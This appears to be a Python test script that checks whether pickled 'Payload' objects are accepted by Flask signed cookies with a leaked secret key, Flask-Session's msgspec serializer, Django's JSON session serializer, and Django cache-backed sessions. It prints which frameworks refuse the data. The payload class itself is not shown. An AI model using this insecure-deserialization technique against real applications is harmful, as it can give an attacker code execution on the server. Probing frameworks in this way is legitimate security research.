import base64
import pickle

from django.conf import settings
from django.contrib.sessions.backends.cache import SessionStore
from django.contrib.sessions.serializers import JSONSerializer
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from flask_session.base import MsgSpecSerializer
from itsdangerous import BadPayload

from payload import Payload

app = Flask("app")
app.secret_key = "known to the attacker, too"
cookies = SecureCookieSessionInterface().get_signing_serializer(app)
data = base64.urlsafe_b64encode(pickle.dumps(Payload("Flask, cookie")))
try:
    cookies.loads(cookies.make_signer(cookies.salt).sign(data.strip(b"=")))
except BadPayload:
    print("Flask, cookie: refused")

stored = pickle.dumps(Payload("Flask-Session, any store"))
MsgSpecSerializer(app, "msgpack").decode(stored)

try:
    JSONSerializer().loads(pickle.dumps(Payload("Django, default")))
except ValueError:
    print("Django, default: refused")

BACKEND = "django.core.cache.backends.filebased.FileBasedCache"
settings.configure(CACHES={"default": {"BACKEND": BACKEND, "LOCATION": "web"}})
session = SessionStore()
session["user"] = Payload("Django, sessions in a cache")
session.save()
SessionStore(session.session_key).load()
